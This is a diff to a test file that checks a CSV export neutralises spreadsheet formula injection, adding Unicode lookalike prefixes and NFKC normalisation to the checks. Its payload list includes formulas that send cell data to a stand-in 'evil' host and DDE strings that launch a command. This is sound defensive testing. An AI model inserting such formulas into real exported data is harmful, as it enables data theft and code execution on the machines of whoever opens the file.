@@ -193,6 +193,7 @@ FORMULAS = [  # OWASP CSV injection: every leading character a spreadsheet reads
     "=HYPERLINK(\"http://evil\",\"x\")", "+SUM(1,2)", "-2+3", "@cmd", "\t=1", "=cmd|' /C calc'!A0",
     "=IMPORTXML(CONCAT(\"http://evil/?\",A1),\"//a\")", "=WEBSERVICE(\"http://evil\")", "@SUM(1+1)*cmd|' /C calc'!A0",
     "\uff1d1+1", "\uff0bSUM(1)", "\uff0d1", "\uff20A1", "\r=1+1", "-=1", "+=1", "=1;=2",
+    "\ufe661+1", "\ufe62SUM(1)", "\ufe631", "\ufe6bA1", "\u200b=1+1",  # small forms, a zero-width space: NFKC
 ]
 
 
@@ -207,8 +208,10 @@ def test_csv_export_neutralises_formulas_and_keeps_the_text(client):
 
     rows = list(csv.DictReader(io.StringIO(response.body.decode())))
     assert sorted(r["text"] for r in rows) == sorted("'" + t.strip() for t in FORMULAS)  # bodies are trimmed
-    assert all(not r["text"].startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
-               for r in rows)
+    import unicodedata
+
+    seen = [unicodedata.normalize("NFKC", r["text"]).lstrip("\u200b") for r in rows]
+    assert all(not text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in seen)
     assert all(r["from"].startswith("'+44") for r in rows)  # masked numbers start with + too
 
 
